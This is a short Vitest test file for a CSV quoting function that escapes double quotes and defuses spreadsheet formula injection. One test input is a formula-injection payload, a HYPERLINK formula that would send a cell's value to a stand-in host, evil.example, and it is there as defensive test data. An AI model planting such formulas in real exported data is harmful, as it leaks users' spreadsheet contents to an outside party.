import { expect, test } from 'vitest';
import { quoted } from './csv.ts';

test.each([
	['cat.png', '"cat.png"'],
	['a "cat", black', '"a ""cat"", black"'],
	['two\nlines', '"two\nlines"'],
	['1 = 1', '"1 = 1"'],
	['=HYPERLINK("https://evil.example/?"&A1)', '"\'=HYPERLINK(""https://evil.example/?""&A1)"'],
	['+1', '"\'+1"'],
	['-1.png', '"\'-1.png"'],
	['@SUM(A1)', '"\'@SUM(A1)"'],
	['\t=1', '"\'\t=1"'],
])('%j becomes the value %s, which no spreadsheet runs', (text, value) => {
	expect(quoted(text)).toBe(value);
});
